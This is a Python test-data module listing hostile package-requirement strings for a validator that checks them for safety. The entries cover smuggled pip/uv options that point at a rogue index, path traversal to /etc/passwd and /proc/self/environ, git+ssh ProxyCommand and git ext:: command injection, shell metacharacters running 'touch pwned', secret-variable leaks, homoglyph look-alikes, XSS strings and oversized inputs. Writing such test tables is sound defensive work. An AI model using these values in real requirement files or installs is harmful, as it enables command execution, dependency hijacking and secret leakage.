"""Texts that try to be more than a requirement: options, paths, addresses, control characters, look-alikes.

``{index}`` stands for the catcher (a server that nobody may ask), ``{outside}`` for a folder outside the project.
"""

from __future__ import annotations

__all__ = ["ADDRESSES", "ALL", "LOOK_ALIKES", "OPTIONS", "PATHS", "SHELL", "SPELLINGS", "STRANGE", "VARIABLES"]

OPTIONS = (
    "--index-url={index}", "--index-url {index}", "-i {index}", "-i{index}", "--index-url", "-i",
    "--extra-index-url={index}", "--extra-index-url {index}", "--default-index={index}", "--index={index}",
    "--index=evil={index}", "--find-links={index}/links", "-f {index}/links", "-f{index}/links", "--no-index",
    "--trusted-host=127.0.0.1", "--trusted-host 127.0.0.1", "--allow-insecure-host=127.0.0.1", "-e .", "-e",
    "--editable=.", "-e{outside}", "-e git+https://index.example.org/x#egg=x", "-r {outside}/evil.txt",
    "-r{outside}/evil.txt", "--requirement={outside}/evil.txt", "-r {index}/evil.txt", "-c {outside}/evil.txt",
    "--constraint={index}/evil.txt", "--target={outside}", "-t {outside}", "--prefix={outside}", "--root={outside}",
    "--src={outside}", "--config-settings=--build-option=evil", "--config-file={outside}/uv.toml",
    "--global-option=build_ext", "--install-option=--prefix={outside}", "--no-binary=:all:", "--no-binary :all:",
    "--only-binary=:none:", "--no-build-isolation", "--no-deps", "--pre", "--upgrade", "--user", "--python={outside}/python",
    "--system", "--break-system-packages", "--cache-dir={outside}", "--log={outside}/log", "--report={outside}/report",
    "--cert={outside}/ca.pem", "--client-cert={outside}/c.pem", "--proxy={index}", "--keyring-provider=subprocess",
    "--require-hashes", "--hash=sha256:00", "--no-verify-hashes", "--env-file={outside}/.env", "-o {outside}/lock",
    "--output-file={outside}/lock", "--", "-", "---", "-h", "--help", "--version", "-vvv", "-q", "\u2013-index-url={index}",
    "\u2014index-url={index}", "\uff0d\uff0dindex-url={index}", " --index-url={index}", "\t--index-url={index}",
    "'--index-url={index}'", '"--index-url={index}"', "six --index-url={index}", "six -i {index}",
    "six --hash=sha256:00", "six --config-settings=x=y", "six -e .", "six -r {outside}/evil.txt",
    "six --global-option=x", "six\n--index-url={index}", "six\r--index-url={index}", "six\r\n--index-url={index}",
    "six\x0b--index-url={index}", "six\x0c--index-url={index}", "six\x1e--index-url={index}",
    "six\u2028--index-url={index}", "six\u2029--index-url={index}", "six\x85--index-url={index}", "six\x00--index-url={index}",
    "six \\\n--index-url={index}", "six #\n--index-url={index}", "six;--index-url={index}", "six,--index-url={index}",
    "six[--index-url={index}]", "six==--index-url={index}", "six==1.0 --index-url={index}", "six @ --index-url={index}",
    "six[extra]--index-url={index}", "six>=1\n-r {outside}/evil.txt",
)  # fmt: skip

PATHS = (
    ".", "..", "./", "../", "./evil", "../evil", "/", "/etc/passwd", "~", "~/evil", "~root/evil", "C:\\evil", "c:/evil",
    "\\\\host\\share", "evil.whl", "evil-1.0-py3-none-any.whl", "{outside}/evil-1.0-py3-none-any.whl", "evil.tar.gz",
    "./evil.zip", "evil/", "a/b", "a\\b", "..[extra]", ".[all]", "{outside}", "file:evil", "file:{outside}",
    "file://{outside}", "file://localhost{outside}", "six @ .", "six @ ..", "six @ ./evil.whl", "six @ {outside}/evil.whl",
    "six @ file:evil.whl", "six @ file://{outside}/evil.whl", "six @ file://localhost{outside}/evil.whl",
    "six @ file:///proc/self/environ", "six @ FILE://{outside}/evil.whl", "six @ file:\\\\host\\share\\evil.whl",
    "six @ ~/evil.whl", "six @ C:\\evil.whl",
)  # fmt: skip

ADDRESSES = (
    "{index}/evil-1.0-py3-none-any.whl", "six @ {index}/evil.whl", "six @{index}/evil.whl", "six@{index}/evil.whl",
    "six [a] @ {index}/evil.whl", "git+{index}/repo", "six @ git+{index}/repo", "six @ git+file://{outside}/repo",
    "six @ git+ssh://-oProxyCommand=touch%20{outside}%2Fpwned/repo", "six @ git+ssh://-oProxyCommand=touch/repo",
    "six @ git+ssh://git@-oProxyCommand=touch/repo", "six @ git+ssh://%2doProxyCommand=touch/repo",
    "six @ git+ssh://[-oProxyCommand=touch]/repo", "six @ git+ssh://-oProxyCommand=touch@index.example.org/repo",
    "six @ git+ext::sh -c touch% {outside}/pwned", "six @ git+ext::sh", "git+ext::sh -c evil",
    "six @ git+git://127.0.0.1/x", "six @ git+http://127.0.0.1/x", "six @ git+https://index.example.org/x@-q",
    "six @ git+https://index.example.org/x@--upload-pack=touch", "six @ git+https://index.example.org/x@%2d-upload-pack=touch",
    "six @ git+https://-h.example.org/x", "six @ hg+https://index.example.org/x", "six @ svn+https://index.example.org/x",
    "six @ bzr+https://index.example.org/x", "six @ hg+https://index.example.org/x@--config=hooks.x=touch",
    "six @ ftp://index.example.org/x.whl", "six @ data:text/plain,x", "six @ javascript:alert(1)", "six @ ssh://host/x",
    "six @ https:", "six @ https://", "six @ https:///x.whl", "six @ https://[::1/x.whl", "six @ https://\n{index}/x.whl",
    "six @ https://user:pass@index.example.org/x.whl", "six @ https://tok3n@index.example.org/x.whl",
    "six @ git+https://user:pass@index.example.org/x", "six @ git+ssh://user:pass@index.example.org/x",
    "six @ //index.example.org/x.whl", "six @ index.example.org/x.whl", "six @ HTTP{index}",
)  # fmt: skip

VARIABLES = (
    "${H4_SECRET}", "$H4_SECRET", "six @ https://index.example.org/${H4_SECRET}/x.whl",
    "six @ {index}/${H4_SECRET}/x.whl", "six @ git+https://index.example.org/${H4_SECRET}/x",
    "six[${H4_SECRET}]", "six==${H4_SECRET}", "six @ https://${H4_SECRET}@index.example.org/x.whl",
    "six ; python_version == '${H4_SECRET}'", "%H4_SECRET%", "six @ https://index.example.org/$H4_SECRET/x.whl",
    "--index-url={index}/${H4_SECRET}", "six @ https://index.example.org/x.whl#${H4_SECRET}",
    "six @ https://index.example.org/x.whl?a=${H4_SECRET}",
)  # fmt: skip

SHELL = (
    "six; touch {outside}/pwned", "six && touch {outside}/pwned", "six | touch {outside}/pwned", "$(touch {outside}/pwned)",
    "`touch {outside}/pwned`", "six`touch {outside}/pwned`", "six$(touch {outside}/pwned)", "six > {outside}/pwned",
    "six>{outside}/pwned", "six>=1>{outside}/pwned", "six & touch {outside}/pwned &", "six\ntouch {outside}/pwned",
    "'six", '"six', "six'", "six\\", "*", "?", "six*", "six{a,b}", "!six", "%six", "six%00", "#six", "six#", "six # evil",
    "@six", "six@", "@{outside}/evil.txt", "=six", "six=", "six=1", "six =1", "<six", "(six)", "six(>=1)", "six (>=1", "[six]",
)  # fmt: skip

LOOK_ALIKES = (
    "s\u0456x", "\u0455ix", "si\u0445", "\uff53\uff49\uff58", "s\u0131x", "six\u200b", "\u200bsix", "s\u200dix", "six\u202e",
    "\u202exis", "six\u2060", "\ufeffsix", "six\u00ad", "si\u0301x", "\u1e69ix", "\U0001d42c\U0001d422\U0001d431", "six\u00a0",
    "\u00a0six", "six\u3000==1", "six\uff1d\uff1d1.0", "six\u2024x", "\u2024\u2024/evil", "\u0660six", "six==\u0661.\u0662",
    "six==1\u20240", "\u2215etc\u2215passwd", "six\u2028", "six\x85",
)  # fmt: skip

STRANGE = (
    "", " ", "\t", "\n", "\x00", "six\x00", "\x1b[31msix\x1b[0m", "\x1b]0;evil\x07six", "six\x7f", "six\x08\x08\x08evil",
    "a" * 10_000, "six" + "," * 5000, "six[" + "a," * 3000 + "a]", "six==" + "1." * 3000 + "1", "(" * 3000 + "six",
    "six ; " + "(" * 2000 + "python_version > '3'" + ")" * 2000, "a" * 4096, "a" * 4097, "six" + "." * 2000 + "x",
    "None", "0", "1.0", "-1", "NaN", "null", "true", "con", "..six", "six..", "-six", "_six", "six-", "six_", "six.",
    "six six", "six,six", "six==", "six == ", "six==1==2", "six<", "six~=", "six===", "six=== ", "six>=1,", "six[", "six[]",
    "six[a", "six[a,]", "six[,a]", "six[a b]", "six[a;b]", "six[../x]", "six[-x]", "six;", "six ;", "six ; ", "six ; x",
    "six ; os.system('x')", "six ; __import__('os')", "six ; python_version", "six ; extra == 'x' or '1' == '1'",
    "six ; python_version > '3' ; x", "six ; 'a' in 'b' * 9", "six ; python_version == '3' # x", "<b>six</b>",
    "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "six/../../x", "six\\..\\..\\x", "%2e%2e%2fsix", "six%20--pre",
    "six==1.0;sys_platform=='linux'--pre", "six==1.0+--index-url", "six==1.0+local/../..", "six==*", "six==1.*.2",
)  # fmt: skip

SPELLINGS = (
    "six", "Six", "SIX==1.16.0", "six[a]", "six >=1, <2", "six ; python_version >= '3'", "six; extra == 'x'", "six!=1.15",
    "six===1.16.0", "six~=1.16", "zope.interface", "typing_extensions", "s", "six==1!1.0", "six==1.0.dev1+l.1",
    "six @ https://index.example.org/six-1.16.0-py2.py3-none-any.whl#sha256=00",
    "six @ https://index.example.org/six-1.16.0-py2.py3-none-any.whl ; python_version >= '3'",
)  # fmt: skip
"""Honest ones among them: a table in which all is refused would prove nothing."""

ALL = (*OPTIONS, *PATHS, *ADDRESSES, *VARIABLES, *SHELL, *LOOK_ALIKES, *STRANGE, *SPELLINGS)
